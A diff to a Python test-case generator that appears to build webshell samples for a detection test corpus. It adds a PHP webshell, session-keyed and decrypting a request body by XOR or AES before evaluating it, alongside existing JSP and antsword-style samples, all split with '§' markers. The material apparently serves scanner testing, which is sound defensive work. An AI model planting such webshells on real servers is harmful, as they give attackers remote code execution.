@@ -613,7 +613,7 @@ def _tool_cases(rng: random.Random) -> Iterator[Case]:
         ]
         yield Case("family.antsword", f"form={index % 3}", "php", f"ant{index}.php", forms[index % 3].encode())
 
-    for index in range(18):
+    for index in range(21):
         key = rng.choice([k("e45e329f§eb5d925b"), hashlib.md5(f"{index}".encode()).hexdigest()[:16]])
         forms = [
             (
@@ -650,6 +650,21 @@ def _tool_cases(rng: random.Random) -> Iterator[Case]:
                     + '";session.putV§alue("u",k);Cipher c=Cipher.getIn§stance("AES");'
                     'c.init(2,new SecretKeySpec(k.getBytes(),"AES"));'
                     "new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getRea§der().readLine()))).newInstance().equals(pageCon§text);}%>"
+                ),
+            ),
+            (
+                "php",
+                "<?php\n@error_reporting(0);\nsession_start();\nif (isset($_GET['pass'])) {\n"
+                + k(
+                    "$key=substr(md5(uniqid(rand())),16);\n$_SESS§ION['k']=$key;\nprint $key;\n} else {\n$key=$_SESSION['k'];\n"
+                )
+                + k(
+                    '$post=file_get_contents("php://in§put");\nif(!extension_loaded(\'openssl\')){$t="base64_"."dec§ode";$post=$t($post."");'
+                )
+                + k("for($i=0;$i<strlen($post);$i++){$post[$i]=$post[$i]^$key[$i+1§&15];}}")
+                + k('else{$post=openssl_dec§rypt($post,"AES128",$key);}\n')
+                + k(
+                    "$arr=explode('|',$post);$func=$arr[0];$params=$arr[1];\nclass C{public function __construct($p){ev§al($p.\"\");}}\n@new C($params);\n}\n?>"
                 ),
             ),
             (
